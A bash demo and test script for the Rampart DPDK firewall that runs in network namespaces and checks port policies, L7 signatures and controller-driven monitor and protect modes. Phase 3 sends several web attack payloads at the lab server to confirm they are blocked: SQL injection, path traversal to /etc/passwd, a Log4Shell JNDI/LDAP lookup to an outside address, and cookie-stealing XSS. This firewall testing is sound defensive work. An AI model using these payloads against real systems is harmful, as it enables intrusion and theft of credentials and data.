#!/usr/bin/env bash
# Rampart demo: rampartd as a bump in the wire between two network
# namespaces, first with its embedded allow-and-record policy, then with
# rules/examples/demo-policy.yaml, then with L7 signatures, then driven by
# rampart-controller and rampartctl (a group in monitor, then protect mode).
#
#   sudo tools/lab/demo.sh                    # uses build/rampartd
#   sudo LAB_RAMPARTD=/path/rampartd tools/lab/demo.sh
#   DEMO_PAUSE=1 ...                          # wait for Enter between phases
#
# Exits non-zero if any step does not behave as expected. Cleans up its
# namespaces and processes on exit, on error and on Ctrl-C.
set -uo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
# shellcheck source=tools/lab/lab.sh
export LAB_QUIET=${LAB_QUIET:-1}
source "$here/lab.sh"
POLICY=${DEMO_POLICY:-$LAB_REPO_DIR/rules/examples/demo-policy.yaml}

if [[ -t 1 ]]; then
  B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' Y=$'\e[33m' C=$'\e[36m' D=$'\e[2m' N=$'\e[0m'
else
  B='' G='' R='' Y='' C='' D='' N=''
fi
PASSED=0
FAILED=0

heading() { printf '\n%s==== %s ====%s\n' "$B" "$*" "$N"; }
step() { printf '\n%s-- %s%s\n' "$B" "$*" "$N"; }
say() { printf '%s\n' "$*"; }
where() { printf '%s[%s]$ %s%s\n' "$C" "$1" "$2" "$N"; }
indent() { sed -e "s/^/    ${D}/" -e "s/\$/${N}/"; }
pass() {
  PASSED=$((PASSED + 1))
  printf '  %sPASS%s %s\n' "$G$B" "$N" "$*"
}
fail() {
  FAILED=$((FAILED + 1))
  printf '  %sFAIL%s %s\n' "$R$B" "$N" "$*"
}
check() { # check DESCRIPTION CONDITION-COMMAND...
  local what=$1
  shift
  if "$@"; then pass "$what"; else fail "$what"; fi
}
now_ms() { date +%s%3N; }
pause() {
  if [[ ${DEMO_PAUSE:-0} == 1 && -t 0 ]]; then
    read -r -p "${Y}press Enter to continue${N} " _
  fi
}
finish() {
  heading "Result"
  local colour=$G
  ((FAILED)) && colour=$R
  printf '%s%d passed, %d failed%s\n' "$colour$B" "$PASSED" "$FAILED" "$N"
  ((FAILED == 0))
  exit
}
abort() {
  fail "$*"
  finish
}

# demo_curl LABEL URL: curl from the client namespace; sets CURL_RC, CURL_MS,
# CURL_BODY and CURL_ERR (curl -v's stderr).
demo_curl() {
  local url=$1 t0
  where client "curl --connect-timeout 2 $url"
  t0=$(now_ms)
  CURL_BODY=$(lab_exec_cli curl -sS -v --connect-timeout 2 --max-time 10 "$url" 2>"$LAB_DIR/curl.err")
  CURL_RC=$?
  CURL_MS=$(($(now_ms) - t0))
  CURL_ERR=$(<"$LAB_DIR/curl.err")
  if ((CURL_RC == 0)); then
    printf '%s\n' "$CURL_BODY" | indent
  else
    grep -E '^curl:|connect to .* failed' "$LAB_DIR/curl.err" | indent
  fi
}

expect_http_ok() { # URL
  demo_curl "$1"
  check "HTTP request to $1 answered in $CURL_MS ms" \
    test "$CURL_RC" -eq 0 -a "$CURL_BODY" = "$BODY"
}

# demo_udp ADDR PORT: one line over UDP with nc, expecting the echo back.
expect_udp_echo() {
  local addr=$1 port=$2 msg reply
  msg="hello over udp from the client"
  where client "echo '$msg' | nc -u -w 1 $addr $port"
  reply=$(printf '%s\n' "$msg" | lab_exec_cli timeout 10 nc -u -w 1 "$addr" "$port" 2>&1)
  printf '%s\n' "$reply" | indent
  check "UDP round trip to $addr port $port" test "$reply" = "echo:$msg"
}

show_eve() { # EVENT N [filters...]: a readable line for up to N records, one raw
  local event=$1 n=$2 total
  shift 2
  total=$(lab_net eve-count "$LAB_EVE" --event "$event")
  say "$total EVE '$event' records in $LAB_EVE, among them:"
  lab_net eve-show "$LAB_EVE" --event "$event" "$@" -n "$n" --brief | indent
  say "  one of them as rampartd wrote it:"
  lab_net eve-show "$LAB_EVE" --event "$event" "$@" -n 1 | indent
}

invariant_holds() {
  local pin pout drop
  pin=$(lab_summary_get packets_in) pout=$(lab_summary_get packets_out) drop=$(lab_summary_get dropped)
  say "    packets_in=$pin packets_out=$pout dropped=$drop"
  [[ $pin =~ ^[0-9]+$ && $pout =~ ^[0-9]+$ && $drop =~ ^[0-9]+$ ]] && ((pin > 0 && pin == pout + drop))
}
greater_than_zero() { [[ $1 =~ ^[0-9]+$ ]] && (($1 > 0)); }

# ------------------------------------------------------------------ setup

heading "Rampart demo: a DPDK firewall as a bump in the wire"
if [[ ! -x $LAB_RAMPARTD ]]; then
  say "rampartd not found at $LAB_RAMPARTD (build it, or set LAB_RAMPARTD)"
  exit 2
fi
lab_install_traps

say "client namespace  $LAB_NS_CLI  $LAB_CLI4  $LAB_CLI6"
say "rampartd in       $LAB_NS_FW   ports: net_af_packet on $LAB_IF_FW0 and $LAB_IF_FW1 (no addresses)"
say "server namespace  $LAB_NS_SRV  $LAB_SRV4  $LAB_SRV6"
say "binary            $LAB_RAMPARTD"
lab_up || abort "could not build the namespace lab"

BODY="Hello from the server behind Rampart"
mkdir -p "$LAB_DIR/www"
printf '%s\n' "$BODY" >"$LAB_DIR/www/index.html"
BODY=$(<"$LAB_DIR/www/index.html")
lab_http_serve "$LAB_DIR/www" 8080 9000 9001 || abort "HTTP server did not start"
lab_udp_echo 5353 || abort "UDP echo server did not start"
say "server: python HTTP on tcp 8080, 9000 and 9001 (IPv4+IPv6), UDP echo on 5353"

# ------------------------------------------------------------------ phase 1

heading "Phase 1: no policy (embedded default: allow everything, record every flow)"
lab_start_rampartd - || abort "rampartd did not start"
where fw "$LAB_RAMPARTD_CMD"
say "rampartd pid $LAB_RAMPARTD_PID forwards"

step "HTTP over IPv4"
expect_http_ok "http://$LAB_SRV4:8080/"
step "HTTP over IPv6"
expect_http_ok "http://[$LAB_SRV6]:8080/"
step "Port 9000 is open too: nothing is filtered yet"
expect_http_ok "http://$LAB_SRV4:9000/"

step "Stop rampartd (SIGINT) and look at what it recorded"
lab_stop_rampartd || fail "rampartd did not stop cleanly"
check "the counters add up (packets_in == packets_out + dropped)" invariant_holds
show_eve flow 4 --proto TCP
check "flows recorded in EVE (TCP 8080 over IPv4 and IPv6)" \
  test "$(lab_net eve-count "$LAB_EVE" --event flow --proto TCP --dest-port 8080 --ip-version 4)" -gt 0 \
  -a "$(lab_net eve-count "$LAB_EVE" --event flow --proto TCP --dest-port 8080 --ip-version 6)" -gt 0
pause

# ------------------------------------------------------------------ phase 2

heading "Phase 2: policy $(realpath --relative-to="$LAB_REPO_DIR" "$POLICY")"
grep -v '^\s*#' "$POLICY" | grep -v '^\s*$' | indent
step "Validate it"
where host "rampartd --policy $POLICY --validate"
"$LAB_RAMPARTD" --policy "$POLICY" --validate 2>&1 | indent
check "the policy is valid" test "${PIPESTATUS[0]}" -eq 0

lab_start_rampartd "$POLICY" || abort "rampartd did not start with the policy"
where fw "$LAB_RAMPARTD_CMD"
say "rampartd pid $LAB_RAMPARTD_PID forwards (ping allowed by allow-icmp)"

step "Allowed: HTTP on tcp 8080 over IPv4"
expect_http_ok "http://$LAB_SRV4:8080/"
step "Allowed: HTTP on tcp 8080 over IPv6"
expect_http_ok "http://[$LAB_SRV6]:8080/"

for addr in "$LAB_SRV4" "[$LAB_SRV6]"; do
  step "Denied: tcp 9000 (server listening) at $addr -- dropped silently, the client times out"
  demo_curl "http://$addr:9000/"
  check "tcp $addr:9000 blocked: curl exit $CURL_RC after $CURL_MS ms (expected 28: timed out)" \
    test "$CURL_RC" -eq 28
done

for addr in "$LAB_SRV4" "[$LAB_SRV6]"; do
  step "Rejected: tcp 9001 (server listening) at $addr -- rampartd answers with a RST"
  demo_curl "http://$addr:9001/"
  refused=0
  grep -q 'Connection refused' <<<"$CURL_ERR" && refused=1
  say "    elapsed: ${B}$CURL_MS ms${N}"
  check "tcp $addr:9001 rejected: curl exit $CURL_RC after $CURL_MS ms (expected 7, 'Connection refused', < 1000 ms)" \
    test "$CURL_RC" -eq 7 -a "$refused" -eq 1 -a "$CURL_MS" -lt 1000
done

step "Allowed: UDP 5353 over IPv4"
expect_udp_echo "$LAB_SRV4" 5353
step "Allowed: UDP 5353 over IPv6"
expect_udp_echo "$LAB_SRV6" 5353

step "Stop rampartd: the counters"
lab_stop_rampartd || fail "rampartd did not stop cleanly"
if [[ -n $LAB_SUMMARY_FILE ]]; then
  lab_net summary --pretty "$LAB_OUT" | indent
fi
check "the counters add up (packets_in == packets_out + dropped)" invariant_holds
check "drop_reasons.policy_deny > 0 ($(lab_summary_get drop_reasons.policy_deny))" \
  greater_than_zero "$(lab_summary_get drop_reasons.policy_deny)"
check "rejects_sent > 0 ($(lab_summary_get rejects_sent))" \
  greater_than_zero "$(lab_summary_get rejects_sent)"
show_eve drop 4
check "drops recorded in EVE (tcp 9000 and 9001)" \
  test "$(lab_net eve-count "$LAB_EVE" --event drop --dest-port 9000)" -gt 0 \
  -a "$(lab_net eve-count "$LAB_EVE" --event drop --dest-port 9001)" -gt 0

pause

# ------------------------------------------------------------------ phase 3

heading "Phase 3: L7 inspection with the bundled web-attack signatures"
say "rampartd also inspects HTTP (found by content, on any port) with rules/rampart-web.rules,"
say "enforced inline (--rules-drop: the set's alert actions become drop)."
say "(the first run compiles the signatures with Hyperscan, about half a minute; later runs load them"
say " from the cache in /var/cache/rampart/hyperscan)"
LAB_START_TIMEOUT=180 lab_start_rampartd "$POLICY" --rules-drop "$LAB_REPO_DIR/rules/rampart-web.rules" ||
  abort "rampartd did not start with the signatures"
step "Allowed: an ordinary request"
expect_http_ok "http://$LAB_SRV4:8080/"
for attack in "products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20" \
  "download?file=..%2F..%2F..%2Fetc%2Fpasswd" \
  "?q=%24%7Bjndi%3Aldap%3A%2F%2F198.18.0.1%2Fx%7D" \
  "search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"; do
  step "Attack in the URL: /$attack"
  demo_curl "http://[$LAB_SRV6]:8080/$attack"
  check "blocked: the connection is reset (curl exit $CURL_RC after $CURL_MS ms, expected 56 or 52)" \
    test "$CURL_RC" -eq 56 -o "$CURL_RC" -eq 52
done
step "Stop rampartd: alerts and L7 counters"
lab_stop_rampartd || fail "rampartd did not stop cleanly"
say "  l7: $(lab_summary_get l7)"
show_eve alert 4
check "every attack blocked and recorded (flows_blocked $(lab_summary_get l7.flows_blocked))" \
  test "$(lab_summary_get l7.flows_blocked)" -ge 4

# ------------------------------------------------------------------ phase 4

heading "Phase 4: the control plane: rampart-controller, rampartctl, groups and modes"
CONTROLLER=$LAB_REPO_DIR/build/controlplane/controller/rampart-controller
CTL=$LAB_REPO_DIR/build/controlplane/ctl/rampartctl
asock=$LAB_DIR/rampartd.sock
csock=$LAB_DIR/controller.sock
mkdir -p "$LAB_DIR/policies"
say "rampartd serves its appliance API on a unix socket; rampart-controller holds the policy documents"
say "and the workload inventory, compiles them and pushes every change; rampartctl talks to the controller."
lab_start_rampartd - --l7 --grpc-socket "$asock" || abort "rampartd did not start with its appliance API"
lab_bg "$LAB_NS_FW" controller "$CONTROLLER" --policy-dir "$LAB_DIR/policies" --grpc-socket "$csock" \
  --appliance "unix:$asock"
controller_pid=$LAB_LAST_PID
for _ in $(seq 50); do [[ -S $csock ]] && break; sleep 0.1; done
[[ -S $csock ]] || abort "rampart-controller did not start"
ctl() { "$CTL" --server "unix:$csock" "$@"; }
# in_sync: until the appliance runs the controller's desired version
in_sync() {
  local _i
  for _i in $(seq 100); do
    ctl -o json appliances 2>/dev/null | grep -q '"in_sync": *true' && return 0
    sleep 0.1
  done
  return 1
}
cat >"$LAB_DIR/web.yaml" <<'EOF'
groups:
  - name: web                   # the workloads labelled app=web (from the inventory)
    selector: {app: web}
    mode: monitor               # evaluate the rules, report violations, enforce nothing yet
signature_sets:
  - name: site
    rules: |
      drop http any any -> any any (msg:"admin page from outside"; http.uri; content:"/admin"; startswith; sid:9300001; rev:1;)
rules:
  - name: web-only-8080      # the web servers serve 8080 only
    action: deny
    protocol: tcp
    dst: group:web
    dst_ports: 9000-9001
EOF
step "A policy document: group 'web' in monitor mode, a rule on it, a signature set"
indent <"$LAB_DIR/web.yaml"
where fw "rampartctl workload-add $LAB_SRV4 docker:web-1 app=web"
ctl workload-add "$LAB_SRV4" docker:web-1 app=web | indent
where fw "rampartctl apply -f web.yaml"
ctl apply -f "$LAB_DIR/web.yaml" | indent
check "the appliance runs the controller's version" in_sync
ctl status | indent
step "Monitor mode: the rule's deny is reported, not enforced"
demo_curl "http://$LAB_SRV4:9000/"
check "the request to port 9000 is answered (monitor)" test "$CURL_RC" -eq 0
demo_curl "http://$LAB_SRV4:8080/admin"
check "the /admin request is answered too; the signature only alerts" test "$CURL_RC" -eq 0
sleep 0.5
show_eve drop 2 --contains '"enforced":false'
check "a drop event with \"enforced\": false records the violation" \
  greater_than_zero "$(lab_net eve-count "$LAB_EVE" --event drop --contains '"enforced":false')"
show_eve alert 1 --contains '"signature_id":9300001'
check "the signature's alert says \"enforced\": false" \
  greater_than_zero "$(lab_net eve-count "$LAB_EVE" --event alert --contains '"signature_id":9300001' --contains '"enforced":false')"
step "Protect mode: one word in the document, pushed to the appliance without a restart"
sed -i 's/mode: monitor .*/mode: protect/' "$LAB_DIR/web.yaml"
where fw "rampartctl apply -f web.yaml   # mode: protect"
ctl apply -f "$LAB_DIR/web.yaml" | indent
check "the appliance runs the new version" in_sync
demo_curl "http://$LAB_SRV4:9000/"
check "port 9000 is now dropped (curl exit $CURL_RC)" test "$CURL_RC" -ne 0
demo_curl "http://$LAB_SRV4:8080/admin"
check "/admin is now reset by the signature (curl exit $CURL_RC)" test "$CURL_RC" -eq 56 -o "$CURL_RC" -eq 52
expect_http_ok "http://$LAB_SRV4:8080/"
lab_kill_pid "$controller_pid"
lab_stop_rampartd || fail "rampartd did not stop cleanly"
say "  policy_unenforced (monitor-mode violations): $(lab_summary_get counters.policy_unenforced)"
check "packets_in == packets_out + dropped" invariant_holds

finish
